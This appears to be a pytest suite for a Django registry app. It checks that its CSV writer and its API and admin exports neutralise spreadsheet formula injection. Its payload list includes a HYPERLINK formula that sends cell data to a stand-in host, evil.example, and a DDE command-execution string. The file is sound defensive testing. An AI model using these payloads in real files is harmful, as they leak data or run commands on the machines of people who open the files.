"""Formulas are neutralised in every CSV the registry writes, the API's and the admin's
export alike, by one writer (registry/csv_safety.py)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from registry.csv_safety import neutralise, write_csv
from registry.models import Topic
from tests import factories as f
from tests.conftest import clear_caches

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2-3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    "\n=1",
    "\u00a0=1",
    "=1",
    "+995 (32) 293 38 01",
]
UNTOUCHED = ["Energy security", "2004-06", "-5", "+3", "-0.25", "42", "", "Café 'quoted'"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_prefixed_with_a_quote(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", UNTOUCHED)
def test_text_and_plain_numbers_are_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_every_cell_is_quoted_so_another_separator_cannot_start_a_cell() -> None:
    text = write_csv([["name"], ["a;=1"], [None]])
    assert text == '"name"\r\n"a;=1"\r\n""\r\n'


def _read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


@pytest.fixture
def topics(db) -> dict[str, Topic]:
    """A topic named by each payload; stored with update() so nothing on the way cleans it."""
    stored = {}
    for n, name in enumerate(PAYLOADS + UNTOUCHED[:1]):
        topic = f.create_topic(slug=f"payload-{n}", description="")
        Topic.objects.filter(pk=topic.pk).update(name=name, description=name)
        stored[f"payload-{n}"] = name
    return stored


def _expected(value: str) -> str:
    return neutralise(value)


def test_api_csv_neutralises_every_payload(client: Client, topics) -> None:
    clear_caches()
    response = client.get("/api/v1/topics/", {"format": "csv", "page_size": 100})
    assert response.status_code == 200
    rows = {row["slug"]: row for row in _read(response.content)}
    for slug, name in topics.items():
        assert rows[slug]["name"] == _expected(name), repr(name)
        assert rows[slug]["description"] == _expected(name), repr(name)
    assert rows[f"payload-{len(PAYLOADS)}"]["name"] == "Energy security"


def test_admin_export_neutralises_every_payload(admin_client: Client, topics) -> None:
    pks = list(Topic.objects.values_list("pk", flat=True))
    changelist = reverse("admin:registry_topic_changelist")
    response = admin_client.post(
        changelist, {"action": "export_admin_action", "_selected_action": pks}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = {row["slug"]: row for row in _read(response.content)}
    for slug, name in topics.items():
        assert rows[slug]["name"] == _expected(name), repr(name)
        assert rows[slug]["description"] == _expected(name), repr(name)
    assert rows[f"payload-{len(PAYLOADS)}"]["name"] == "Energy security"


def test_admin_export_form_offers_only_the_safe_csv(admin_client: Client, topics) -> None:
    export = reverse("admin:registry_topic_export")
    page = admin_client.get(export)
    choices = [label for _value, label in page.context["form"].fields["format"].choices]
    assert [str(label).lower() for label in choices if label] == ["csv"]
    data = {"format": "0", "resource": "0"}
    data.update({name: "on" for name in page.context["form"].fields if "resource_" in name})
    response = admin_client.post(export, data)
    rows = {row["slug"]: row for row in _read(response.content)}
    assert rows["payload-0"]["name"] == "'" + PAYLOADS[0]
    assert rows["payload-1"]["name"] == "'+cmd|' /C calc'!A0"
